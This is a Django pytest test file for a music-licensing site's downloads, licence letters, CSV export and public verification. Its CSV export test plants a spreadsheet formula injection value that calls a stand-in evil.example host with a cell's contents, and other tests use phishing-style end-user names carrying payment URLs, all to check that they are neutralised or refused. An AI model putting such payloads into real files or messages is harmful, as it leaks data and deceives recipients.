import csv
import datetime
import io
import re

import pytest
import time_machine
from django.urls import reverse

from catalog.models import Track
from catalog.templatetags.catalog_tags import seconds
from licensing import services
from licensing.models import EndUser, License
from tests.licensing.conftest import full_version, grant


def close_response(response):
    """Close a streamed file response without request_finished closing the test's DB connection
    (what Django's test client does around the requests it makes)."""
    from django.core.signals import request_finished
    from django.db import close_old_connections

    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)


def download_url(track):
    return reverse("licensing:download", args=[track.slug])


def form_data(client, track, **overrides):
    """The download form as the browser would post it (fresh submission token from the page)."""
    page = client.get(download_url(track))
    assert page.status_code == 200
    form = page.context["form"]
    data = {
        "agreement_shown": str(page.context["agreement"].pk),  # the version the page shows
        "submission": str(form.fields["submission"].initial),
        "version": str(full_version(track).pk),
        "project": "new",
        "project_title": "Launch video",
        "platform": "youtube",
        "project_url": "https://youtube.com/@olivia",
        "end_user_name": "Olivia Owner",
        "accept_terms": "on",
    }
    data.update(overrides)
    return data


# --- the download form ------------------------------------------------------------------


def test_download_form_needs_sign_in(anon_client, track):
    response = anon_client.get(download_url(track))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_download_form_shows_account_agreement_and_permanent_end_user(
    member, owner_client, track, agreements
):
    response = owner_client.get(download_url(track))
    html = response.content.decode()
    assert "owner@example.com" in html  # signed in as, in plain view
    number = agreements["music-licence"].number
    assert f"Music Licence Agreement (version {number})" in html
    assert reverse("legal:version", args=["music-licence", number]) in html
    assert "This is permanent" in html
    assert 'value="Olivia Owner"' in html  # defaults to the account holder


def test_a_page_opened_before_the_first_download_cannot_name_another_end_user(
    member, owner_client, track, second_track
):
    """Two pages opened before the account's first download both ask for the end user; the first
    sent fixes it. The other, sent with another name, licenses nothing and says why — it never
    issues a licence naming someone the member did not type."""
    first = form_data(owner_client, track, end_user_name="Tom Tabs", project_title="Tom vlog")
    second = form_data(
        owner_client, second_track, end_user_name="Acme Client GmbH", project_title="Acme video"
    )
    assert owner_client.post(download_url(track), first).status_code == 302

    response = owner_client.post(download_url(second_track), second)

    assert response.status_code == 200
    html = response.content.decode()
    assert (
        "Your account&#x27;s end user is now Tom Tabs" in html
        and "nothing was licensed for Acme Client GmbH" in html
    )
    assert License.objects.count() == 1 and EndUser.objects.get().name == "Tom Tabs"
    # The same name, however spaced or cased, is the same end user.
    again = form_data(owner_client, second_track, end_user_name="  tom  TABS ", project_title="Acme video")
    assert owner_client.post(download_url(second_track), again).status_code == 302
    assert License.objects.filter(end_user__name="Tom Tabs").count() == 2


def test_a_tick_for_a_version_replaced_while_the_page_was_open_is_not_taken(
    member, owner_client, track, agreements
):
    """The page showed version 1; staff published version 2 before the member sent it. The tick
    accepted what the member read, so nothing is recorded or licensed until version 2 is read."""
    from legal.models import Acceptance
    from tests.factories import publish_agreement

    data = form_data(owner_client, track)
    shown = agreements["music-licence"]
    newer = publish_agreement("music-licence", material=True)

    response = owner_client.post(download_url(track), data)

    html = response.content.decode()
    assert response.status_code == 200
    assert f"changed while this page was open. Read version {newer.number} and tick to accept it." in html
    assert f'name="agreement_shown" value="{newer.pk}"' in html and shown.pk != newer.pk
    box = re.search(r'<input type="checkbox" name="accept_terms"[^>]*>', html).group(0)
    assert "checked" not in box  # the tick was for the other version: sending again needs a new one
    assert not License.objects.exists()
    assert not Acceptance.objects.filter(user=member, version__document__kind="music-licence").exists()

    response = owner_client.post(download_url(track), {**data, "agreement_shown": str(newer.pk)})
    assert response.status_code == 302
    assert License.objects.get().agreement_version == newer.number


def test_the_form_says_what_the_membership_leaves(owner, owner_client, track, agreements):
    from tests.licensing.conftest import give_membership, make_ready

    make_ready(owner)
    membership = give_membership(owner, quota=10)
    page = owner_client.get(download_url(track)).content.decode()
    assert "<strong>10</strong> licences left this period" in page
    plan = membership.plan
    plan.licences_per_period, plan.fair_use_ceiling = None, 400
    plan.save(update_fields=["licences_per_period", "fair_use_ceiling"])
    page = owner_client.get(download_url(track)).content.decode()
    assert "<strong>Unlimited</strong> licences" in page and "fair use: 400 more this period" in page
    assert "licences left this period" not in page


def test_posting_the_form_issues_a_licence_and_its_page_starts_the_signed_file_once(
    member, owner_client, track, agreements
):
    from legal.models import Acceptance

    response = owner_client.post(download_url(track), form_data(owner_client, track))
    lic = License.objects.get()
    assert response.status_code == 302 and response["Location"] == lic.get_absolute_url()
    assert lic.account == member and lic.end_user.name == "Olivia Owner"
    assert lic.project.url == "https://youtube.com/@olivia"
    acceptance = Acceptance.objects.get(user=member, version=agreements["music-licence"])
    assert acceptance.method == "checkout"
    page = owner_client.get(response["Location"]).content.decode()
    assert "Licence issued. Your download is starting" in page
    start = re.search(r'<meta http-equiv="refresh" content="0;url=(/files/[^"]+)">', page).group(1)
    again = owner_client.get(response["Location"]).content.decode()
    assert "http-equiv" not in again and "Your download is starting" not in again  # once only
    file = owner_client.get(start.replace("&amp;", "&"))
    assert file.status_code == 200
    assert f"Mira Vale - Golden Hour ({lic.code}).wav" in file["Content-Disposition"]
    assert file["Content-Disposition"].startswith("attachment")
    close_response(file)


def test_a_licence_page_opened_after_the_links_lifetime_still_starts_a_working_download(
    member, owner_client, track, agreements, settings
):
    """The page signs the file's address when it renders, not when the form was sent (a tab
    restored later, a slow connection): the link it starts is fresh, and the session holds none."""
    response = owner_client.post(download_url(track), form_data(owner_client, track))
    assert "url" not in owner_client.session["licensing_download"]
    later = datetime.datetime.now(tz=datetime.UTC) + datetime.timedelta(
        seconds=settings.PRIVATE_URL_MAX_AGE + 60
    )
    with time_machine.travel(later):
        page = owner_client.get(response["Location"]).content.decode()
        start = re.search(r'<meta http-equiv="refresh" content="0;url=(/files/[^"]+)">', page).group(1)
        file = owner_client.get(start.replace("&amp;", "&"))
        assert file.status_code == 200 and file["Content-Disposition"].startswith("attachment")
        close_response(file)


def test_acceptance_is_recorded_once(member, owner_client, track, second_track, agreements):
    from legal.models import Acceptance

    owner_client.post(download_url(track), form_data(owner_client, track))
    page = owner_client.get(download_url(second_track))
    assert "which you accepted" in page.content.decode()
    owner_client.post(download_url(second_track), form_data(owner_client, second_track, accept_terms=""))
    assert License.objects.count() == 2
    assert Acceptance.objects.filter(user=member, version=agreements["music-licence"]).count() == 1


def test_form_without_the_agreement_tick_issues_nothing(member, owner_client, track):
    response = owner_client.post(download_url(track), form_data(owner_client, track, accept_terms=""))
    assert response.status_code == 200
    assert "Tick to accept the Music Licence Agreement" in response.content.decode()
    assert not License.objects.exists()


def test_a_licence_revoked_before_its_page_loads_starts_no_download(member, owner_client, track, staff):
    response = owner_client.post(download_url(track), form_data(owner_client, track))
    lic = License.objects.get()
    services.revoke_license(license=lic, actor=staff, reason="Chargeback (card dispute).")
    page = owner_client.get(response["Location"]).content.decode()
    assert "http-equiv" not in page and "Your download is starting" not in page and "revoked" in page
    assert "Reason: Chargeback (card dispute). Its files" in page  # one full stop, not two


def test_same_form_posted_twice_quickly_gives_one_licence(member, owner_client, track):
    data = form_data(owner_client, track)
    first = owner_client.post(download_url(track), data)
    second = owner_client.post(download_url(track), data)
    assert first.status_code == second.status_code == 302
    assert License.objects.count() == 1
    assert first["Location"] == second["Location"] == License.objects.get().get_absolute_url()
    page = owner_client.get(second["Location"]).content.decode()  # where the browser lands
    assert "Licence issued. Your download is starting" in page


def test_project_url_that_is_not_a_url_is_refused_and_keeps_the_input(member, owner_client, track):
    response = owner_client.post(
        download_url(track),
        form_data(owner_client, track, project_url="http://not a url", project_title="Keep me"),
    )
    html = response.content.decode()
    assert "Enter a full web address" in html and 'value="Keep me"' in html
    assert not License.objects.exists()


def test_channel_handle_is_accepted_as_project_url(member, owner_client, track):
    owner_client.post(download_url(track), form_data(owner_client, track, project_url="@olivia.makes"))
    assert License.objects.get().project.url == "@olivia.makes"


def test_second_end_user_cannot_be_chosen_on_an_individual_account(member, owner_client, track, second_track):
    owner_client.post(download_url(track), form_data(owner_client, track))
    page = owner_client.get(download_url(second_track)).content.decode()
    assert "End user (fixed)" in page and 'name="end_user_name"' not in page
    owner_client.post(
        download_url(second_track), form_data(owner_client, second_track, end_user_name="Mallory")
    )
    assert set(EndUser.objects.values_list("name", flat=True)) == {"Olivia Owner"}
    assert set(License.objects.values_list("end_user__name", flat=True)) == {"Olivia Owner"}


def test_existing_project_can_be_reused_and_same_track_is_free(member, owner_client, track):
    owner_client.post(download_url(track), form_data(owner_client, track))
    project = License.objects.get().project
    response = owner_client.post(download_url(track), form_data(owner_client, track, project=str(project.pk)))
    assert response.status_code == 302
    assert License.objects.count() == 1
    page = owner_client.get(response["Location"]).content.decode()
    assert "this download is free and uses no licence" in page
    assert "Your download is starting" in page and "Licence issued" not in page


def test_suspended_member_is_refused(member, owner_client, track):
    member.moderation = "suspended"
    member.save(update_fields=["moderation"])
    response = owner_client.post(download_url(track), {"submission": "x"})
    assert response.status_code == 302
    assert not License.objects.exists()


def test_past_due_member_is_sent_to_billing(member, owner_client, track):
    data = form_data(owner_client, track)
    member.subscriptions.update(status="past_due")
    response = owner_client.post(download_url(track), data, follow=False)
    assert response.status_code == 302 and response["Location"] == reverse("billing:account-billing")
    assert not License.objects.exists()


def test_unaccepted_material_change_sends_to_the_acceptance_page(member, owner_client, track):
    from tests.factories import publish_agreement

    publish_agreement("privacy-policy", material=True)
    response = owner_client.get(download_url(track))
    assert response.status_code == 302 and response["Location"].startswith(reverse("legal:accept"))


def test_member_without_entitlement_sees_why_on_the_form(agreements, owner, owner_client, track):
    from tests.licensing.conftest import make_ready

    make_ready(owner)
    page = owner_client.get(download_url(track)).content.decode()
    assert "Choose a membership or buy this track" in page
    # No form to fill in for nothing: the ways to get a licence instead.
    assert 'name="submission"' not in page
    assert reverse("billing:pricing") in page and reverse("billing:buy-track", args=[track.slug]) in page
    # What buying it alone costs, said up front (the settings' single-track price).
    assert "buy this track on its own for $19" in page and "on its own · $19" in page
    assert "Tell us who will use" not in page
    response = owner_client.post(download_url(track), form_data(owner_client, track))
    assert response.status_code == 302 and response["Location"] == reverse("billing:pricing")
    assert not License.objects.exists() and not EndUser.objects.exists()


def test_without_entitlement_the_form_stays_for_a_free_download_of_a_licensed_project(
    member, owner_client, track
):
    grant(member, track, name="Olivia Owner", title="Launch video")
    member.subscriptions.update(status="canceled")
    page = owner_client.get(download_url(track)).content.decode()
    assert 'name="submission"' in page and "Launch video" in page


def test_download_is_rate_limited(member, owner_client, track, settings):
    statuses = [owner_client.post(download_url(track), {"submission": "bad"}).status_code for _ in range(21)]
    assert statuses[:20] == [200] * 20
    assert statuses[20] == 429


# --- my licences, detail, re-download, letters: three personas ----------------------------


@pytest.fixture
def lic(member, track):
    return grant(member, track, name="Olivia Owner", title="Launch video").license


def account_urls(lic):
    return [
        ("get", reverse("licensing:license-detail", args=[lic.code])),
        ("post", reverse("licensing:redownload", args=[lic.code])),
        ("post", reverse("licensing:letter-request", args=[lic.code])),
        ("get", reverse("licensing:letter-status", args=[lic.code, 1])),
        ("get", reverse("licensing:letter-download", args=[lic.code, 1])),
    ]


def test_another_accounts_licence_code_is_404_in_every_url(lic, other_member, other_client):
    for method, url in account_urls(lic):
        assert getattr(other_client, method)(url).status_code == 404, url


def test_anonymous_visitors_are_sent_to_sign_in(lic, anon_client):
    for method, url in account_urls(lic) + [("get", reverse("licensing:license-list"))]:
        response = getattr(anon_client, method)(url)
        assert response.status_code == 302 and "/accounts/login/" in response["Location"], url


def test_license_list_shows_only_the_owners_licences(lic, other_member, owner_client, other_client, track):
    theirs = grant(other_member, track, title="Other video").license
    mine = owner_client.get(reverse("licensing:license-list")).content.decode()
    assert lic.code in mine and theirs.code not in mine
    other = other_client.get(reverse("licensing:license-list")).content.decode()
    assert theirs.code in other and lic.code not in other


def test_license_list_filters_and_search(member, owner_client, track, second_track, staff):
    a = grant(member, track, title="Podcast 12", platform="podcast").license
    b = grant(member, second_track, title="Travel vlog", platform="youtube").license
    services.revoke_license(license=b, actor=staff, reason="Breach")
    url = reverse("licensing:license-list")

    def codes(**params):
        return {x.code for x in owner_client.get(url, params).context["licenses"]}

    assert codes() == {a.code, b.code}
    assert codes(q="night") == {b.code}
    assert codes(q=a.code.lower()) == {a.code}
    assert codes(platform="podcast") == {a.code}
    assert codes(status="revoked") == {b.code}
    assert codes(project=str(a.project_id)) == {a.code}


def test_license_list_query_count_does_not_grow(member, owner_client, track, second_track):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    url = reverse("licensing:license-list")
    captured = []
    owner_client.get(url)  # first request of the session records it (allauth usersessions)

    def count():
        with CaptureQueriesContext(connection) as ctx:
            response = owner_client.get(url)
        captured.append(ctx.captured_queries)
        return len(ctx.captured_queries), response

    grant(member, track, title="Video 0")
    few, _ = count()
    for i in range(1, 13):
        grant(member, track if i % 2 else second_track, title=f"Video {i}")
    many, response = count()
    assert len(response.context["licenses"]) == 13

    def own(queries):
        return [q["sql"] for q in queries if '"licensing_' in q["sql"].split(" WHERE ")[0]]

    # filters (end users, projects), count, page, letters: the same for 1 or 13 licences
    assert len(own(captured[0])) == len(own(captured[1])) <= 5
    assert many <= few + 4  # the rest is site chrome (session, agreements, inbox, banners, membership)


def test_license_detail_shows_terms_files_and_verification(lic, owner_client):
    html = owner_client.get(lic.get_absolute_url()).content.decode()
    for expected in (
        lic.code,
        "Olivia Owner",
        "Launch video",
        "Golden Hour",
        "Drums stem",
        "Request licence letter",
    ):
        assert expected in html


def test_redownload_from_the_detail_page_is_free(lic, member, owner_client, track):
    stem = track.versions.get(kind="stem")
    response = owner_client.post(reverse("licensing:redownload", args=[lic.code]), {"version": stem.pk})
    assert response.status_code == 302
    file = owner_client.get(response["Location"])
    assert f"Drums stem ({lic.code}).flac" in file["Content-Disposition"]
    close_response(file)
    lic.refresh_from_db()
    assert lic.download_count == 2


def test_redownload_of_a_version_that_is_not_there_is_refused_clearly(lic, owner_client):
    for version in ("abc", "999999", "", "²", "¹²", "9" * 5000):
        response = owner_client.post(reverse("licensing:redownload", args=[lic.code]), {"version": version})
        assert response.status_code == 302 and response["Location"] == lic.get_absolute_url()


def test_tampered_signed_url_is_403(lic, owner_client, track):
    url = services.signed_download_url(lic, full_version(track))
    tampered = url[:-3] + ("A" if url[-3] != "A" else "B") + url[-2:]
    assert owner_client.get(tampered).status_code == 403


def test_expired_signed_url_is_403(lic, owner_client, track, settings):
    url = services.signed_download_url(lic, full_version(track))
    with time_machine.travel(datetime.timedelta(seconds=settings.PRIVATE_URL_MAX_AGE + 5)):
        assert owner_client.get(url).status_code == 403


def test_letter_request_status_poll_and_download(lic, owner_client, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        response = owner_client.post(
            reverse("licensing:letter-request", args=[lic.code]), HTTP_HX_REQUEST="true"
        )
    assert response.status_code == 200
    letter = lic.letters.get()
    status = owner_client.get(reverse("licensing:letter-status", args=[lic.code, letter.pk]))
    assert "Download letter (PDF)" in status.content.decode()
    pdf = owner_client.get(reverse("licensing:letter-download", args=[lic.code, letter.pk]))
    assert pdf.status_code == 302
    file = owner_client.get(pdf["Location"])
    assert file["Content-Type"] == "application/pdf"
    assert b"".join(file.streaming_content).startswith(b"%PDF")
    close_response(file)


def test_a_member_without_a_name_is_asked_for_one_before_a_letter_names_them(lic, member, owner_client):
    """A letter names the member as the licensee; an account from before sign-up asked for a name
    has none, and a letter made for it would name a placeholder."""
    member.display_name = member.company = ""
    member.save(update_fields=["display_name", "company"])

    page = owner_client.get(lic.get_absolute_url()).content.decode()
    assert "Add your name to your profile" in page and reverse("accounts:profile") in page
    assert "Request licence letter" not in page

    url = reverse("licensing:letter-request", args=[lic.code])
    response = owner_client.post(url, HTTP_HX_REQUEST="true")
    assert response.status_code == 400
    assert "add your name (or your company" in response.content.decode()
    response = owner_client.post(url, follow=True)
    assert "add your name (or your company" in response.content.decode()
    assert not lic.letters.exists()

    member.company = "Northwind Films"
    member.save(update_fields=["company"])
    assert owner_client.post(url, HTTP_HX_REQUEST="true").status_code == 200
    assert lic.letters.count() == 1


def test_pending_letter_polls_with_htmx(lic, member, owner_client):
    letter = services.request_letter(user=member, licenses=[lic])  # on-commit not run: still pending
    html = owner_client.get(reverse("licensing:letter-status", args=[lic.code, letter.pk])).content.decode()
    assert 'hx-trigger="every 1s"' in html and "being made" in html


def test_letter_of_a_revoked_licence_cannot_be_requested_or_downloaded(
    lic, member, owner_client, staff, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        letter = services.request_letter(user=member, licenses=[lic])
    services.revoke_license(license=lic, actor=staff, reason="Breach")
    response = owner_client.post(reverse("licensing:letter-request", args=[lic.code]))
    assert response.status_code == 302
    download = owner_client.get(reverse("licensing:letter-download", args=[lic.code, letter.pk]))
    assert download["Location"] == lic.get_absolute_url()


def test_a_letter_request_reads_codes_as_people_write_them(lic, owner_client):
    from licensing.models import Letter

    url = reverse("licensing:letter-request", args=[lic.code])
    also = [lic.code.lower(), lic.code, f" {lic.code.replace('-', ' ')} "]  # the page's own, three ways
    response = owner_client.post(url, {"also": also})
    assert response.status_code == 302 and response["Location"] == lic.get_absolute_url()
    assert list(Letter.objects.get().licenses.all()) == [lic]
    assert owner_client.post(url, {"also": ["AMT-0000-0000"]}).status_code == 404  # not one of theirs


def test_csv_export_lists_the_owners_licences(lic, other_member, owner_client, track):
    grant(other_member, track, title="Not mine")
    response = owner_client.get(reverse("licensing:export-csv"))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["code"] for r in rows] == [lic.code]
    assert rows[0]["project"] == "Launch video" and rows[0]["end_user"] == "Olivia Owner"
    assert rows[0]["verify_url"].endswith(f"/licenses/verify/{lic.code}/")
    assert rows[0]["duration"] == seconds(lic.version.duration_seconds) and "isrc" in rows[0]


def test_csv_export_cells_never_start_like_a_spreadsheet_formula(member, owner_client, track):
    """A title from an audio file's tags or a member's project name that starts like a formula is
    written as text (a leading apostrophe), so opening the file runs nothing."""
    Track.objects.filter(pk=track.pk).update(title='=HYPERLINK("https://evil.example/?"&A2,"Open")')
    grant(member, track, name="@SUM(1+1)", title="-2+3")
    response = owner_client.get(reverse("licensing:export-csv"))
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["track"] == '\'=HYPERLINK("https://evil.example/?"&A2,"Open")'
    assert row["end_user"] == "'@SUM(1+1)" and row["project"] == "'-2+3"
    assert row["issued_at"][0].isdigit() and row["code"].startswith("AMT-")
    from licensing.views import _csv_cell

    assert [_csv_cell(v) for v in (" =1+1", "\uff1dSUM(A1)", "\t1", "Plain - title", "")] == [
        "' =1+1",
        "'\uff1dSUM(A1)",
        "'\t1",
        "Plain - title",
        "",
    ]


def test_a_projects_cue_sheet_lists_that_projects_licences_only(
    lic, member, owner_client, track, second_track
):
    other = grant(member, second_track, title="Another film").license
    page = owner_client.get(reverse("licensing:projects")).content.decode()
    cue = f"{reverse('licensing:export-csv')}?project={lic.project_id}"
    assert f'href="{cue}"' in page
    rows = list(csv.DictReader(io.StringIO(b"".join(owner_client.get(cue).streaming_content).decode())))
    assert [r["code"] for r in rows] == [lic.code] and other.code not in str(rows)


# --- public verification ------------------------------------------------------------------


def test_verification_shows_licence_facts_but_never_the_email(lic, anon_client):
    response = anon_client.get(reverse("licensing:verify-code", args=[lic.code]))
    html = response.content.decode()
    assert response.status_code == 200
    for expected in ("Valid licence", lic.code, "Golden Hour", "Launch video", "YouTube", "Olivia Owner"):
        assert expected in html
    assert "owner@example.com" not in html


def test_verification_form_normalises_the_code(lic, anon_client):
    response = anon_client.get(
        reverse("licensing:verify"), {"code": f" {lic.code.lower().replace('-', ' ')} "}
    )
    assert response["Location"] == reverse("licensing:verify-code", args=[lic.code])


def test_verification_of_an_unknown_code_is_404(anon_client, db):
    response = anon_client.get(reverse("licensing:verify-code", args=["AMT-2222-3333"]))
    assert response.status_code == 404 and "No licence with this code" in response.content.decode()
    bad = anon_client.get(reverse("licensing:verify"), {"code": "hello"})
    assert bad.status_code == 400


def test_revoked_licence_shows_revoked(
    lic, anon_client, staff, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        services.revoke_license(license=lic, actor=staff, reason="Used beyond its project")
    html = anon_client.get(reverse("licensing:verify-code", args=[lic.code])).content.decode()
    assert "Revoked licence" in html and "Used beyond" not in html
    assert mailoutbox[0].to == ["owner@example.com"] and lic.code in mailoutbox[0].subject


def test_verification_is_rate_limited(anon_client, db):
    url = reverse("licensing:verify-code", args=["AMT-2222-3333"])
    statuses = [anon_client.get(url).status_code for _ in range(31)]
    assert statuses[-1] == 429 and 429 not in statuses[:30]


def test_verification_works_after_the_account_is_cancelled(
    lic, member, staff, anon_client, django_capture_on_commit_callbacks
):
    from accounts import services as accounts

    member.subscriptions.update(source="complimentary", stripe_subscription_id=None)
    cancellation = accounts.request_cancellation(user=member, reason="Leaving")
    with django_capture_on_commit_callbacks(execute=True):
        accounts.decide_cancellation(cancellation=cancellation, approve=True, actor=staff)
        accounts.carry_out_cancellation(cancellation.pk)
    member.refresh_from_db()
    assert member.is_cancelled
    html = anon_client.get(reverse("licensing:verify-code", args=[lic.code])).content.decode()
    assert "Valid licence" in html and "Olivia Owner" in html and "Golden Hour" in html
    assert "owner@example.com" not in html and member.email not in html
    assert License.objects.filter(pk=lic.pk, status="active").exists()


# --- end users and projects pages -----------------------------------------------------------


def test_end_users_page_for_an_individual_explains_the_fixed_end_user(
    lic, owner_client, other_member, other_client
):
    html = owner_client.get(reverse("licensing:end-users")).content.decode()
    assert "Olivia Owner" in html and "exactly one end user" in html
    response = owner_client.post(reverse("licensing:end-users"), {"name": "Second", "confirm": "on"})
    assert response.status_code == 302
    assert EndUser.objects.filter(account=lic.account).count() == 1
    assert "Olivia Owner" not in other_client.get(reverse("licensing:end-users")).content.decode()


def test_enterprise_designates_in_writing_up_to_its_seats(enterprise, client):
    client.force_login(enterprise)
    url = reverse("licensing:end-users")
    assert client.post(url, {"name": "Ana Díaz", "role": "Producer", "confirm": "on"}).status_code == 302
    unconfirmed = client.post(url, {"name": "Ben"})
    assert unconfirmed.status_code == 400 and "Tick to confirm" in unconfirmed.content.decode()
    assert client.post(url, {"name": "Ben Ito", "confirm": "on"}).status_code == 302
    full = client.post(url, {"name": "Cy", "confirm": "on"})
    assert full.status_code == 400 and "all seats are taken" in full.content.decode()
    assert EndUser.objects.filter(account=enterprise).count() == 2


def test_an_end_user_named_with_a_web_address_is_refused_and_no_email_is_sent(
    enterprise, client, track, mailoutbox, django_capture_on_commit_callbacks
):
    """The site emails a designated end user, greeting them by the name the member gave: a name
    carrying an address would be the site sending a stranger a link it did not write."""
    client.force_login(enterprise)
    url = reverse("licensing:end-users")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            url,
            {
                "name": "Jane. Your licence lapsed, renew at https://renew.example/pay",
                "email": "jane@example.net",
                "confirm": "on",
            },
        )
        role = client.post(url, {"name": "Jane Roe", "role": "Visit www.renew.example", "confirm": "on"})
        inline = client.post(
            download_url(track),
            form_data(client, track, end_user="new", end_user_name="pay at renew.example/x"),
        )
    assert (
        response.status_code == 400 and "The name cannot contain a web address." in response.content.decode()
    )
    assert (
        role.status_code == 400
        and "The role or company cannot contain a web address." in role.content.decode()
    )
    assert inline.status_code == 200
    assert "The end user&#x27;s name cannot contain a web address." in inline.content.decode()
    assert not EndUser.objects.filter(account=enterprise).exists() and not mailoutbox

    # A company whose name is a domain is still a name.
    assert client.post(url, {"name": "Booking.com", "role": "Client", "confirm": "on"}).status_code == 302


def test_enterprise_chooses_a_designated_end_user_on_the_download_form(enterprise, client, track):
    client.force_login(enterprise)
    ana = services.designate_end_user(user=enterprise, name="Ana Díaz")
    data = form_data(client, track, end_user=str(ana.pk), end_user_name="", client_name="Acme")
    assert client.post(download_url(track), data).status_code == 302
    lic = License.objects.get()
    assert lic.end_user == ana and lic.project.client_name == "Acme"


def test_projects_page_lists_only_own_projects(lic, owner_client, other_member, other_client):
    assert "Launch video" in owner_client.get(reverse("licensing:projects")).content.decode()
    assert "Launch video" not in other_client.get(reverse("licensing:projects")).content.decode()
